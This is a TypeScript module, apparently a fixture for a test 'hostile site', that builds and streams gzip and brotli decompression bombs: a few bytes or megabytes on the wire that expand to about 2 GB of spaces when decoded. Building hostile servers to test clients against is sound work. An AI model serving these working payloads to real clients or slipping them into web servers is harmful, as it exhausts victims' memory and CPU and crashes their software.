/**
 * Decompression bombs for the hostile site: a few MB on the wire, gigabytes once decoded. Both are
 * built without ever holding the decoded bytes: the gzip bomb repeats one deflate block (a full
 * flush makes every block independent, so the same bytes can be sent again and again), the brotli
 * bomb is compressed once from a reused buffer and cached (brotli squeezes spaces ~10^6:1).
 */
import { once } from 'node:events';
import type { ServerResponse } from 'node:http';
import zlib from 'node:zlib';

/** Decoded size of either bomb. */
export const BOMB_DECODED_BYTES = 2 * 1024 ** 3;

const BLOCK_BYTES = 8 * 1024 * 1024;
const PREFIX = Buffer.from('<!doctype html><html><head><title>bomb</title></head><body><p>');
const FULL_FLUSH = { level: 9, finishFlush: zlib.constants.Z_FULL_FLUSH };

let gzipParts: { prefix: Buffer; block: Buffer; blocks: number } | undefined;

function gzipPieces(): { prefix: Buffer; block: Buffer; blocks: number } {
  gzipParts ??= {
    prefix: zlib.deflateRawSync(PREFIX, FULL_FLUSH),
    block: zlib.deflateRawSync(Buffer.alloc(BLOCK_BYTES, 0x20), FULL_FLUSH),
    blocks: Math.floor((BOMB_DECODED_BYTES - PREFIX.length) / BLOCK_BYTES),
  };
  return gzipParts;
}

/** gzip member header: magic, deflate, no flags, mtime 0, no extra flags, OS unknown. */
const GZIP_HEADER = Buffer.from([0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff]);

/** Writes with backpressure; false once the client has gone away. */
export function writeOrClose(res: ServerResponse, chunk: Buffer | string): Promise<boolean> {
  if (res.destroyed) return Promise.resolve(false);
  if (res.write(chunk)) return Promise.resolve(true);
  return new Promise((resolve) => {
    const done = () => {
      res.off('drain', done);
      res.off('close', done);
      resolve(!res.destroyed);
    };
    res.on('drain', done);
    res.on('close', done);
  });
}

/** Streams the gzip bomb with backpressure; stops as soon as the client goes away. */
export async function sendGzipBomb(res: ServerResponse): Promise<void> {
  const { prefix, block, blocks } = gzipPieces();
  res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'content-encoding': 'gzip' });
  const write = (b: Buffer) => writeOrClose(res, b);
  if (!(await write(GZIP_HEADER)) || !(await write(prefix))) return;
  for (let i = 0; i < blocks; i++) if (!(await write(block))) return;
  // Only a client that decoded everything gets here: the trailer (CRC-32, size) makes it valid.
  let crc = zlib.crc32(PREFIX);
  const spaces = Buffer.alloc(BLOCK_BYTES, 0x20);
  for (let i = 0; i < blocks; i++) crc = zlib.crc32(spaces, crc);
  const trailer = Buffer.alloc(8);
  trailer.writeUInt32LE(crc >>> 0, 0);
  trailer.writeUInt32LE((PREFIX.length + blocks * BLOCK_BYTES) % 2 ** 32, 4);
  if (await write(Buffer.concat([zlib.deflateRawSync(Buffer.alloc(0)), trailer]))) res.end();
}

let brotliBody: Promise<Buffer> | undefined;

async function compressBrotliBomb(): Promise<Buffer> {
  const enc = zlib.createBrotliCompress({
    params: { [zlib.constants.BROTLI_PARAM_QUALITY]: 4, [zlib.constants.BROTLI_PARAM_LGWIN]: 24 },
  });
  const out: Buffer[] = [];
  enc.on('data', (c: Buffer) => out.push(c));
  const ended = once(enc, 'end');
  const spaces = Buffer.alloc(BLOCK_BYTES, 0x20);
  enc.write(PREFIX);
  for (let left = BOMB_DECODED_BYTES - PREFIX.length; left > 0; left -= BLOCK_BYTES) {
    const chunk = left >= BLOCK_BYTES ? spaces : spaces.subarray(0, left);
    // Wait for each chunk to be consumed: the reused buffer must not be queued twice at once.
    await new Promise<void>((resolve, reject) => enc.write(chunk, (err) => (err ? reject(err) : resolve())));
  }
  enc.end();
  await ended;
  return Buffer.concat(out);
}

/** The brotli bomb's bytes (a few hundred bytes; compressed once per process, ~2 s of CPU). */
export function brotliBombBody(): Promise<Buffer> {
  brotliBody ??= compressBrotliBomb();
  return brotliBody;
}

export async function sendBrotliBomb(res: ServerResponse): Promise<void> {
  const body = await brotliBombBody();
  if (res.destroyed) return;
  res.writeHead(200, {
    'content-type': 'text/html; charset=utf-8',
    'content-encoding': 'br',
    'content-length': String(body.length),
  });
  res.end(body);
}
